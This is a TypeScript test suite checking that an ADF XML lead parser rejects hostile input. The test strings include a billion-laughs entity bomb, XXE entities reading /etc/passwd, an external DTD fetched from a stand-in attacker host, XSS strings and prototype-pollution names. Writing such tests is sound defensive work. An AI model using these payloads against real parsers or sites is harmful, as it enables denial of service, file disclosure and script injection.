import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { AdfError } from './adf-error';
import { DEFAULT_MAX_BYTES } from './input-guard';
import { parseAdf } from './parse-adf';

const contact =
  '<customer><contact><name part="first">Jane</name><email>jane@example.com</email></contact></customer>';

function refusal(xml: string, options?: { maxBytes?: number }): AdfError {
  try {
    parseAdf(xml, options);
  } catch (error) {
    if (error instanceof AdfError) return error;
    throw error;
  }
  throw new Error('parseAdf accepted the document');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE adf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<adf><prospect><customer><contact><name part="full">&lol9;</name></contact></customer></prospect></adf>`;

// The first line of the real file, so the test would notice its content leaking anywhere.
const PASSWD_LINE = readFileSync('/etc/passwd', 'utf8').split('\n')[0] ?? 'root:x:0:0';

describe('hostile input', () => {
  it('refuses billion laughs before parsing, in well under 100 ms', () => {
    const started = performance.now();
    const error = refusal(BILLION_LAUGHS);
    const elapsed = performance.now() - started;
    expect(error.element).toBe('!DOCTYPE');
    expect(error.reason).toMatch(/entity declarations .* are not accepted/);
    expect(elapsed).toBeLessThan(50);
  });

  it('refuses an XXE document and never reads /etc/passwd into anything it returns', () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE adf [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<adf><prospect><customer><contact><name part="full">&xxe;</name><email>x@example.com</email></contact></customer></prospect></adf>`;
    const error = refusal(xxe);
    expect(error.element).toBe('!DOCTYPE');
    expect(error.message).not.toContain(PASSWD_LINE);
    expect(JSON.stringify(error)).not.toContain(PASSWD_LINE);
  });

  it('refuses entity declarations in any case and spacing, even without a DOCTYPE around them', () => {
    expect(refusal(`<!doctype adf[<!entity x "y">]><adf/>`).element).toBe('!DOCTYPE');
    expect(
      refusal(`<!DOCTYPE adf [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]><adf/>`)
        .element,
    ).toBe('!DOCTYPE');
    expect(refusal(`<adf><prospect><!ENTITY x "y"></prospect></adf>`).element).toBe('!DOCTYPE');
  });

  it('refuses any internal subset, even one declaring no entity', () => {
    const error = refusal(`<!DOCTYPE adf [ <!ELEMENT adf ANY> ]><adf><prospect>${contact}</prospect></adf>`);
    expect(error.element).toBe('!DOCTYPE');
  });

  it('accepts a DOCTYPE naming an external DTD, and never fetches or reads it', () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE adf SYSTEM "file:///etc/passwd"><adf><prospect>${contact}<comments>&xxe;</comments></prospect></adf>`;
    const document = parseAdf(xml);
    expect(document.prospects[0]?.customer.firstName).toBe('Jane');
    expect(document.prospects[0]?.comments).toBe('&xxe;');
    expect(JSON.stringify(document)).not.toContain(PASSWD_LINE);
  });

  it('refuses documents over maxBytes, counting UTF-8 bytes, default 512 KiB', () => {
    expect(DEFAULT_MAX_BYTES).toBe(512 * 1024);
    const padding = 'x'.repeat(DEFAULT_MAX_BYTES);
    const large = refusal(`<adf><prospect>${contact}<comments>${padding}</comments></prospect></adf>`);
    expect(large.element).toBe('document');
    expect(large.reason).toBe(`the document is larger than ${DEFAULT_MAX_BYTES} bytes`);

    const xml = `<adf><prospect>${contact}<comments>${'é'.repeat(100)}</comments></prospect></adf>`;
    // 100 characters but 200 bytes of é: the byte count decides.
    expect(refusal(xml, { maxBytes: xml.length + 50 }).element).toBe('document');
    expect(parseAdf(xml, { maxBytes: xml.length + 100 }).prospects).toHaveLength(1);
  });

  it('refuses 10,000 nested elements quickly and without crashing', () => {
    const depth = 10_000;
    const xml = `<adf><prospect>${contact}${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}</prospect></adf>`;
    const started = performance.now();
    const error = refusal(xml);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(error.element).toBe('document');
    expect(error.reason).toBe('elements are nested more than 32 levels deep');
  });

  it('refuses a maximum-size document of nested elements in reasonable time', () => {
    const depth = Math.floor((DEFAULT_MAX_BYTES - 100) / 7);
    const xml = `<adf>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</adf>`;
    const started = performance.now();
    expect(refusal(xml).element).toBe('document');
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('does not backtrack on many unterminated DOCTYPEs', () => {
    const started = performance.now();
    expect(refusal('<!DOCTYPE'.repeat(50_000)).element).toBe('!DOCTYPE');
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('returns script tags and HTML in names and comments as plain text, unchanged', () => {
    const xml = `<adf><prospect><customer><contact>
      <name part="first">&lt;script&gt;alert(1)&lt;/script&gt;</name>
      <name part="last"><![CDATA[<img src=x onerror="alert(2)">]]></name>
      <email>x@example.com</email></contact>
      <comments>&lt;a href="javascript:alert(3)"&gt;click&lt;/a&gt; &amp;amp;</comments>
    </customer></prospect></adf>`;
    const [lead] = parseAdf(xml).prospects;
    expect(lead?.customer.firstName).toBe('<script>alert(1)</script>');
    expect(lead?.customer.lastName).toBe('<img src=x onerror="alert(2)">');
    expect(lead?.customer.comments).toBe('<a href="javascript:alert(3)">click</a> &amp;');
  });

  it('refuses element names that could pollute prototypes, naming them', () => {
    for (const name of ['__proto__', 'constructor', 'prototype']) {
      const error = refusal(
        `<adf><prospect>${contact}<${name}><polluted>yes</polluted></${name}></prospect></adf>`,
      );
      expect(error.element).toBe(name);
      expect(error.reason).toBe('the name is reserved and not accepted');
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('reads a document naming an element after an Object method without confusion', () => {
    const xml = `<adf><prospect><customer><contact><hasOwnProperty>x</hasOwnProperty><phone>555-0100</phone></contact></customer></prospect></adf>`;
    expect(parseAdf(xml).prospects[0]?.customer.phones).toEqual([
      { number: '555-0100', type: null, time: null },
    ]);
  });

  it('refuses a non-string input with an AdfError', () => {
    expect(refusal(Buffer.from('<adf/>') as unknown as string).element).toBe('document');
  });
});
